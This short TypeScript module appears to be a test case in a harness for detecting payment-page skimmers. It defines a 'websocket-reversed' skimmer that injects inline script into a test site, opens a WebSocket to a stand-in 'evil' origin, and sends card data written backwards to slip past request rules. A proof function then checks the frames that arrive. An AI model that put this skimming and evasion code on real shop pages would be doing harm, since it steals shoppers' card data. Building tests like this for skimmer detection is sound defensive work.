import { holds, js, skimmer } from '../behaviour.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'websocket-reversed',
  why: 'A WebSocket takes the values written backwards; request rules of many shops do not look at sockets.',
  covers: ['sending: WebSocket', 'encoding: reversed'],
  base: 'direct',
  install: (site) =>
    site.inline(js`window._ws = new WebSocket('${site.origins.evil.replace('http', 'ws')}/live');
${onPay(js`_ws.send(JSON.stringify({ t: Date.now(), p: Array.from(card()).toReversed().join('') }));`)}`),
  proof: holds((arrived) => arrived.frames.map(({ text }) => Array.from(text).toReversed().join(''))),
});
